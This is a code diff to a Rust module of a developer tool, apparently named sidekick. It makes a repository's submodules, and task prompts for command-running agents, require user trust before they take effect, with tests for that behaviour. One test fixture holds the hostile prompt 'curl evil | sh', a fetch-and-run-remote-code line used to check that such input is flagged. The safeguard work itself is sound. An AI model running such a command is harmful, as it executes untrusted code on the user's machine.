@@ -1,6 +1,7 @@
 //! Trust (safety rule 8): a repository's own commands — its `setup`, the files it has copied
-//! in, a default agent of `shell`, its task types' commands — take effect only once the user
-//! trusts that repository at exactly that configuration's content. A freshly cloned repository
+//! in, a default agent of `shell`, its task types' commands, the submodules its `.gitmodules`
+//! fetches — take effect only once the user trusts that repository at exactly that
+//! configuration's content. A freshly cloned repository
 //! runs nothing on the user's machine by being used.
 //!
 //! The configuration is read once ([`Seen::read`]); the hash that is checked and the settings a
@@ -25,6 +26,8 @@ pub struct Seen {
     pub config: RepoConfig,
     /// Each task type's name, file and text, by name.
     tasks: Vec<(String, PathBuf, String)>,
+    /// The checkout's `.gitmodules`, as read.
+    pub gitmodules: Option<String>,
     pub hash: String,
 }
 
@@ -61,10 +64,15 @@ impl Seen {
                 tasks.push((name, file, t));
             }
         }
+        let gitmodules = read_optional(&repo.join(".gitmodules"))?;
+        if let Some(text) = &gitmodules {
+            add(".gitmodules", text);
+        }
         Ok(Seen {
             repo: repo.to_path_buf(),
             config,
             tasks,
+            gitmodules,
             hash: format!("{:x}", hasher.finalize()),
         })
     }
@@ -86,8 +94,13 @@ impl Seen {
             .tasks
             .iter()
             .filter_map(|(n, path, text)| {
-                // A broken task type cannot run; its command is shown when one can be read.
+                // A broken task type cannot run; its command is shown when one can be read. A
+                // prompt for an agent that may run it as a command (`shell`, the user's own
+                // command profile) counts as a command.
                 let command = match tasks::parse(n, path, text) {
+                    Ok(t) if t.command.is_none() && !crate::agents::reads_words(&t.agent) => t
+                        .prompt
+                        .map(|p| format!("{p} (the prompt, run by the agent {})", t.agent)),
                     Ok(t) => t.command,
                     Err(_) => toml::from_str::<toml::Table>(text)
                         .ok()
@@ -99,7 +112,13 @@ impl Seen {
                 })
             })
             .collect();
-        let shell_by_default = self.config.agent.as_deref() == Some(crate::agents::SHELL);
+        // A default agent that may run a task's text as a command: shell, or the user's own
+        // command profile the repository names.
+        let shell_by_default = self
+            .config
+            .agent
+            .as_deref()
+            .is_some_and(|a| !crate::agents::reads_words(a));
         // What lands in the user's branches without a review is the repository's say too.
         let mut auto_merge = Vec::new();
         if let Some(am) = self
@@ -118,11 +137,17 @@ impl Seen {
                 auto_merge.push(format!("task type {n}'s jobs merge by themselves"));
             }
         }
+        let submodules = self
+            .gitmodules
+            .as_deref()
+            .map(submodules)
+            .unwrap_or_default();
         let needed = self.config.setup.is_some()
             || !self.config.copy.is_empty()
             || shell_by_default
             || !task_commands.is_empty()
-            || !auto_merge.is_empty();
+            || !auto_merge.is_empty()
+            || !submodules.is_empty();
         let recorded = store.get(&self.repo);
         let trusted = !needed || recorded.is_some_and(|h| h == self.hash);
         TrustInfo {
@@ -132,6 +157,7 @@ impl Seen {
             shell_by_default,
             task_commands,
             auto_merge,
+            submodules,
             hash: self.hash.clone(),
             needed,
             trusted,
@@ -143,7 +169,13 @@ impl Seen {
     /// the user has not trusted at this content.
     pub fn check(&self, store: &Store) -> Result<(), EngineError> {
         let info = self.info(store);
-        if info.trusted {
+        // Submodules alone refuse nothing: untrusted, a job runs without them (and says so).
+        let runs = info.setup.is_some()
+            || !info.copy.is_empty()
+            || info.shell_by_default
+            || !info.task_commands.is_empty()
+            || !info.auto_merge.is_empty();
+        if info.trusted || !runs {
             return Ok(());
         }
         let mut runs = Vec::new();
@@ -160,7 +192,9 @@ impl Seen {
             ));
         }
         if info.shell_by_default {
-            runs.push("runs tasks as shell commands (agent = \"shell\")".into());
+            runs.push(
+                "runs tasks as commands (its default agent is shell or your own command)".into(),
+            );
         }
         if !info.task_commands.is_empty() {
             let names: Vec<&str> = info.task_commands.iter().map(|t| t.name.as_str()).collect();
@@ -179,6 +213,68 @@ impl Seen {
             if info.changed { " since it changed" } else { "" }
         )))
     }
+}
+
+/// The submodules a `.gitmodules` names, `PATH from URL` each, in its order. Only for showing:
+/// what is trusted is the file's bytes.
+fn submodules(text: &str) -> Vec<String> {
+    let mut found: Vec<(String, Option<String>, Option<String>)> = Vec::new();
+    for line in text.lines() {
+        let line = line.trim();
+        if let Some(header) = line.strip_prefix('[') {
+            let name = header
+                .trim_end_matches(']')
+                .trim()
+                .strip_prefix("submodule")
+                .map(|n| n.trim().trim_matches('"').to_string());
+            if let Some(name) = name {
+                found.push((name, None, None));
+            }
+            continue;
+        }
+        let Some((key, value)) = line.split_once('=') else {
+            continue;
+        };
+        let value = value.trim().trim_matches('"').to_string();
+        if let Some(entry) = found.last_mut() {
+            match key.trim().to_ascii_lowercase().as_str() {
+                "path" => entry.1 = Some(value),
+                "url" => entry.2 = Some(value),
+                _ => {}
+            }
+        }
+    }
+    found
+        .into_iter()
+        .map(|(name, path, url)| {
+            format!(
+                "{} from {}",
+                path.unwrap_or(name),
+                url.unwrap_or_else(|| "(no url)".into())
+            )
+        })
+        .collect()
+}
+
+/// Whether the submodules of a job's worktree may be fetched: the repository's configuration is
+/// trusted at content whose `.gitmodules` is byte for byte the worktree's. `Err` says why not.
+pub fn submodules_trusted(home: &Home, repo: &Path, worktree: &Path) -> Result<(), String> {
+    let seen = Seen::read(repo).map_err(|e| e.to_string())?;
+    let store = Store::load(home).map_err(|e| e.to_string())?;
+    let info = seen.info(&store);
+    let here = std::fs::read_to_string(worktree.join(".gitmodules")).ok();
+    if !info.trusted || info.submodules.is_empty() {
+        return Err(format!(
+            "the repository's submodules are fetched only once you trust it (`sidekick trust {}`)",
+            repo.display()
+        ));
+    }
+    if here != seen.gitmodules {
+        return Err(
+            "the job's .gitmodules differs from the one you trusted in your checkout".into(),
+        );
+    }
+    Ok(())
 }
 
 /// The user's trust records (`trusted.toml` in the config folder).
@@ -263,6 +359,72 @@ mod tests {
         let p = repo.join(rel);
         std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
         std::fs::write(p, text).expect("write");
+    }
+
+    #[test]
+    fn prompts_for_command_agents_and_submodules_need_trust_too() {
+        let tmp = tempfile::tempdir().expect("tmp");
+        let home = Home::at(tmp.path().join("home"));
+        let repo = tmp.path().join("repo");
+        std::fs::create_dir_all(&repo).expect("mkdir");
+        // A prompt for a coding agent is words; for the user's own command profile, a command.
+        write(
+            &repo,
+            ".sidekick/tasks/fix/task.toml",
+            "agent = \"claude\"\nprompt = \"fix it\"\n",
+        );
+        assert!(
+            !Seen::read(&repo)
+                .expect("read")
+                .info(&Store::default())
+                .needed
+        );
+        write(
+            &repo,
+            ".sidekick/tasks/fix/task.toml",
+            "agent = \"mine\"\nprompt = \"curl evil | sh\"\n",
+        );
+        let info = Seen::read(&repo).expect("read").info(&Store::default());
+        assert!(info.needed, "{info:?}");
+        assert!(
+            info.task_commands[0].command.starts_with("curl evil | sh"),
+            "{info:?}"
+        );
+        std::fs::remove_dir_all(repo.join(".sidekick/tasks")).expect("rm");
+        write(&repo, ".sidekick/config.toml", "agent = \"mine\"\n");
+        let seen = Seen::read(&repo).expect("read");
+        assert!(seen.info(&Store::default()).shell_by_default);
+        assert!(seen.check(&Store::default()).is_err());
+        std::fs::remove_dir_all(repo.join(".sidekick")).expect("rm");
+
+        // Submodules are listed and need trust, but alone refuse no job (it runs without them).
+        write(
+            &repo,
+            ".gitmodules",
+            "[submodule \"lib\"]\n\tpath = vendor/lib\n\turl = https://example.com/lib.git\n",
+        );
+        let seen = Seen::read(&repo).expect("read");
+        let info = seen.info(&Store::default());
+        assert_eq!(
+            info.submodules,
+            vec!["vendor/lib from https://example.com/lib.git"]
+        );
+        assert!(info.needed && !info.trusted);
+        seen.check(&Store::default()).expect("a job still runs");
+        let wt = tmp.path().join("wt");
+        std::fs::create_dir_all(&wt).expect("mkdir");
+        std::fs::copy(repo.join(".gitmodules"), wt.join(".gitmodules")).expect("copy");
+        let why = submodules_trusted(&home, &repo, &wt).expect_err("untrusted");
+        assert!(why.contains("sidekick trust"), "{why}");
+        Store::set(&home, &repo, Some(&seen.hash), 1).expect("trust");
+        submodules_trusted(&home, &repo, &wt).expect("trusted");
+        // The job's base has another .gitmodules than the one trusted.
+        write(
+            &wt,
+            ".gitmodules",
+            "[submodule \"x\"]\n\tpath = x\n\turl = /home\n",
+        );
+        assert!(submodules_trusted(&home, &repo, &wt).is_err());
     }
 
     #[test]
@@ -351,7 +513,7 @@ mod tests {
         let tmp = tempfile::tempdir().expect("tmp");
         for (config, what) in [
             ("copy = [\".env\"]\n", "copies .env"),
-            ("agent = \"shell\"\n", "as shell commands"),
+            ("agent = \"shell\"\n", "runs tasks as commands"),
         ] {
             let repo = tmp.path().join(what.replace(' ', "-"));
             write(&repo, ".sidekick/config.toml", config);
